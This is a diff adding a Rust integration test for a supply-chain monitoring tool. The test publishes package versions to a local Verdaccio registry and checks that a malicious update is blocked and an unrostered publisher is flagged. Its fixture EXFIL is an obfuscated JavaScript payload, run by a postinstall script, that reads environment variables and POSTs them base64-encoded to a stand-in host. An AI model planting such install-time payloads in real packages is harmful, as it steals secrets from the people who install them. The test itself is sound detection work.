@@ -572,3 +572,193 @@ fn own_without_a_roster_is_an_error() {
     assert!(r.stderr.contains("roster"), "{}", r.stderr);
     assert!(reg.log().is_empty(), "nothing polled");
 }
+
+// ---------------------------------------------------------------- a real Verdaccio
+
+fn require_tools() -> bool {
+    std::env::var_os("TURNCOAT_TEST_REQUIRE_TOOLS").is_some_and(|v| v == "1")
+}
+
+/// Node, npm and Verdaccio, or None after saying why (a failure under REQUIRE_TOOLS).
+fn node_npm_verdaccio(test: &str) -> Option<(std::path::PathBuf, std::path::PathBuf)> {
+    use turncoat_sandbox::tools::find_on_path;
+    let found = (
+        find_on_path("node"),
+        find_on_path("npm"),
+        turncoat_exercise::registry::locate_verdaccio().ok(),
+    );
+    match found {
+        (Some(node), Some(npm), Some(_)) => Some((node, npm)),
+        _ => {
+            assert!(
+                !require_tools(),
+                "{test}: TURNCOAT_TEST_REQUIRE_TOOLS=1 but node, npm or verdaccio (TURNCOAT_VERDACCIO) is missing"
+            );
+            eprintln!("skipped {test}: node, npm or verdaccio (TURNCOAT_VERDACCIO) not found");
+            None
+        }
+    }
+}
+
+fn release(
+    name: &str,
+    version: &str,
+    extra: &[(&str, &str)],
+    scripts: Value,
+) -> turncoat_exercise::canary::PackageRelease {
+    let manifest = json!({
+        "name": name, "version": version, "main": "index.js", "license": "MIT",
+        "scripts": scripts,
+    });
+    let mut files = vec![
+        (
+            "package.json".to_string(),
+            serde_json::to_vec_pretty(&manifest).unwrap(),
+        ),
+        (
+            "index.js".to_string(),
+            b"module.exports = (s, n) => String(s).padStart(n);\n".to_vec(),
+        ),
+    ];
+    files.extend(
+        extra
+            .iter()
+            .map(|(p, c)| (p.to_string(), c.as_bytes().to_vec())),
+    );
+    turncoat_exercise::canary::PackageRelease {
+        name: name.into(),
+        version: version.into(),
+        files,
+    }
+}
+
+/// Reads the environment through computed names and posts it, base64'd, to a remote host.
+const EXFIL: &str = "const _k=['\\x65\\x6e\\x76','\\x68\\x74\\x74\\x70\\x73'];\
+const _e=process[_k[0]];const _h=require(_k[1]);\
+const _r=_h.request({hostname:'collect.'+'exfil-example'+'.com',method:'POST',path:'/c'});\
+_r.write(Buffer.from(JSON.stringify(_e)).toString('base64'));_r.end();\n";
+
+#[test]
+fn verdaccio_a_new_version_is_judged_by_the_gate_then_a_304_and_an_own_takeover() {
+    let test = "verdaccio_monitor";
+    let Some((node, npm)) = node_npm_verdaccio(test) else {
+        return;
+    };
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let home = d.join("npm-home");
+    let work = d.join("work");
+    std::fs::create_dir_all(&home).unwrap();
+    let mut reg = turncoat_exercise::registry::Registry::start_local(
+        &node,
+        &d.join("verdaccio"),
+        std::time::Duration::from_secs(90),
+    )
+    .unwrap();
+    let publish = |r: &turncoat_exercise::canary::PackageRelease| {
+        reg.publish(&npm, &home, r, &work).unwrap();
+    };
+    publish(&release("mon-dep", "1.0.0", &[], json!({})));
+    publish(&release("mon-own", "1.0.0", &[], json!({})));
+
+    // Lock mon-dep@1.0.0 the way a project does.
+    let proj = d.join("proj");
+    std::fs::create_dir_all(&proj).unwrap();
+    std::fs::write(
+        proj.join("package.json"),
+        r#"{"name": "proj", "version": "1.0.0", "dependencies": {"mon-dep": "1.0.0"}}"#,
+    )
+    .unwrap();
+    let out = turncoat_exercise::registry::npm_tool(&npm, &home)
+        .cwd(&proj)
+        .args([
+            "install",
+            "--package-lock-only",
+            "--ignore-scripts",
+            "--registry",
+            &reg.url,
+        ])
+        .run()
+        .unwrap();
+    assert!(out.success(), "{}", out.stderr_tail(2000));
+    std::fs::write(d.join("roster.toml"), ROSTER.replace("team-pkg", "mon-own")).unwrap();
+
+    let args = [
+        "monitor",
+        "--once",
+        "--lockfile",
+        "proj/package-lock.json",
+        "--own",
+        "mon-own",
+        "--roster",
+        "roster.toml",
+        "--registry",
+        &reg.url,
+        "--database",
+        "store.sqlite",
+        "--format",
+        "jsonl",
+    ];
+    // The real clock: Verdaccio stamps publish times now.
+    let run = |args: &[&str]| {
+        let out = Command::new(env!("CARGO_BIN_EXE_turncoat"))
+            .current_dir(d)
+            .env("HOME", d)
+            .env("TURNCOAT_CACHE_DIR", d.join("cache"))
+            .env_remove("TURNCOAT_NOW")
+            .env_remove("TURNCOAT_DATABASE")
+            .args(args)
+            .output()
+            .unwrap();
+        Run {
+            code: out.status.code(),
+            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
+            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
+        }
+    };
+    let first = run(&args);
+    assert_eq!(first.code, Some(0), "{}", first.stderr);
+    assert_eq!(first.stdout, "");
+    assert!(first.stderr.contains("2 baselines"), "{}", first.stderr);
+
+    publish(&release(
+        "mon-dep",
+        "1.0.1",
+        &[("setup.js", EXFIL)],
+        json!({"postinstall": "node setup.js"}),
+    ));
+    publish(&release("mon-own", "1.0.1", &[], json!({})));
+    let second = run(&args);
+    assert_eq!(second.code, Some(1), "{}\n{}", second.stdout, second.stderr);
+    let alerts = second.alerts();
+    // The own package's takeover alarm first: `drill` (Verdaccio's publisher here) is not in
+    // the roster, and Verdaccio records no `_npmUser`, so nobody in the roster can be shown
+    // to have published it.
+    assert_eq!(alerts[0]["code"], "monitor-takeover", "{alerts:#?}");
+    assert_eq!(alerts[0]["package"], "mon-own");
+    let dep = alerts
+        .iter()
+        .find(|a| a["package"] == "mon-dep" && a["code"] == "monitor-new-version")
+        .unwrap_or_else(|| panic!("{alerts:#?}"));
+    assert_eq!(dep["version"], "1.0.1");
+    assert_eq!(dep["locked"], "1.0.0");
+    assert_eq!(dep["verdict"], "block", "{dep:#}");
+    assert_eq!(dep["level"], "block");
+    assert!(!dep["findings"].as_array().unwrap().is_empty(), "{dep:#}");
+    assert!(
+        dep["registry"]
+            .as_str()
+            .unwrap()
+            .starts_with("http://127.0.0.1:")
+    );
+
+    let third = run(&args);
+    assert_eq!(third.code, Some(0), "{}\n{}", third.stdout, third.stderr);
+    assert_eq!(third.stdout, "", "nothing new: no alert");
+    assert!(
+        third.stderr.contains("2 unchanged (304)"),
+        "{}",
+        third.stderr
+    );
+    reg.stop();
+}
